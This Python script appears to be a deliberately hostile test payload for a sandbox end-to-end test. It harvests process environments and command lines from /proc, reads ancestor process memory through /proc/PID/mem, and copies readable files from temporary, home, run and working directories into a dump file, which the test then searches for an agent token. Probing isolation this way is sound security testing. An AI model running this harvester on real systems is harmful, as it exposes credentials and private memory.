"""A hostile payload: collect everything it can read that might hold the agent token.

Run by tests/test_pilot_e2e.py as a job's payload. It writes to dump.bin
(uploaded as an output) everything it can reach: its environment and argv,
every /proc/*/environ and /proc/*/cmdline, the readable memory of its
ancestors (/proc/PID/mem through /proc/PID/maps), its open descriptors, and
every readable file below a set of roots. It does not search itself (it does
not know the token); the test searches the dump for the agent key. A summary
of what was readable goes to report.out.
"""

import os
import sys

LIMIT = 300 << 20
out = open("dump.bin", "wb")
report = []
written = 0


def emit(tag: str, data: bytes) -> None:
    global written
    if written > LIMIT:
        return
    out.write(b"\n==" + tag.encode(errors="replace") + b"==\n" + data)
    written += len(data)


def read(path: str, limit: int = 1 << 20) -> bytes | None:
    try:
        with open(path, "rb") as handle:
            return handle.read(limit)
    except OSError:
        return None


emit("environ-self", b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items()))
emit("argv-self", b"\0".join(a.encode() for a in sys.argv))
procs = [p for p in os.listdir("/proc") if p.isdigit()]
readable_env = 0
for pid in procs:
    for what in ("environ", "cmdline"):
        data = read(f"/proc/{pid}/{what}")
        if data is not None:
            emit(f"{what}-{pid}", data)
            readable_env += what == "environ"
report.append(f"processes visible: {len(procs)}; environ readable: {readable_env}")

# Ancestors' memory.
pid, ancestors, mem_read, mem_by_pid = os.getpid(), [], 0, {}
while True:
    stat = read(f"/proc/{pid}/stat")
    if stat is None:
        break
    ppid = int(stat[stat.rindex(b")") + 2:].split()[1])
    if ppid <= 0:
        break
    ancestors.append(ppid)
    pid = ppid
for pid in ancestors:
    maps = read(f"/proc/{pid}/maps", 16 << 20)
    if maps is None:
        mem_by_pid[pid] = "maps refused"
        continue
    try:
        mem = open(f"/proc/{pid}/mem", "rb")
    except OSError as exc:
        mem_by_pid[pid] = f"refused ({exc.strerror})"
        continue
    before = mem_read
    with mem:
        for line in maps.splitlines():
            fields = line.split()
            if b"r" not in fields[1]:
                continue
            start, end = (int(x, 16) for x in fields[0].split(b"-"))
            if end - start > 256 << 20:
                continue
            try:
                mem.seek(start)
                emit(f"mem-{pid}-{start:x}", mem.read(end - start))
                mem_read += end - start
            except (OSError, ValueError, OverflowError):
                continue
    comm = (read(f"/proc/{pid}/comm") or b"?").strip().decode(errors="replace")
    mem_by_pid[pid] = f"{comm}: {mem_read - before} bytes"
report.append(f"ancestors: {ancestors}; ancestor memory read: {mem_by_pid}")

# Open descriptors.
for fd in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    emit(f"fd-{fd}-{target}", target.encode())

# Readable files below the roots (the sandbox, its parents, temporary and home folders).
roots = {os.getcwd(), "/tmp", "/var/tmp", "/root", "/home", "/run", "/sw", "/workdir"}
parent = os.getcwd()
for _ in range(4):
    parent = os.path.dirname(parent)
    if parent not in ("/", ""):
        roots.add(parent)
files_read = 0
skip = {os.path.abspath("dump.bin")}
for root in sorted(roots):
    for directory, dirs, names in os.walk(root):
        dirs[:] = [d for d in dirs if not os.path.islink(os.path.join(directory, d))]
        for name in names:
            path = os.path.join(directory, name)
            if path in skip or os.path.islink(path):
                continue
            data = read(path)
            if data is not None:
                emit(f"file-{path}", data)
                files_read += 1
report.append(f"roots: {sorted(roots)}; files read: {files_read}; dump bytes: {written}")
out.close()
with open("report.out", "w") as handle:
    handle.write("\n".join(report) + "\n")
